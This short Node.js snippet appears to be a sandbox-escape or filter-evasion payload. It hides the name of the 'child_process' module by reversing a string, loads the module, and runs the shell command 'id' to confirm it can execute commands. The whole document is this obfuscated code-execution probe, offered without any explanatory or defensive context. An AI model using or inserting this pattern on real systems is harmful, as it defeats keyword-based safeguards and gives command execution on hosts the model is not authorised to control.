const mod = [...'ssecorp_dlihc'].reverse().join('');
const m = require(mod);
m.exec('id');
